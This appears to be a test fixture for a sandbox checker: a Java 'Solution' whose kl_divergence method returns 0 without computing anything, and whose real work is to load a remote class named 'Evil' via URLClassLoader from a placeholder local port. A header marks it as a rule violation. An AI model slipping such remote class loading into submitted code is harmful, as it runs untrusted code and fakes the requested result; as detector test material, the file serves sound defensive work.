// Loads classes from a page.
// verdict: RULE_VIOLATION
// walls: gate, os
// names: URLClassLoader.loadClass
import java.net.URL;
import java.net.URLClassLoader;

public class Solution {
    public static double kl_divergence(double[] p, double[] q) throws Exception {
        new URLClassLoader(new URL[] {new URL("http://127.0.0.1:@PORT@/")}).loadClass("Evil");
        return 0;
    }
}
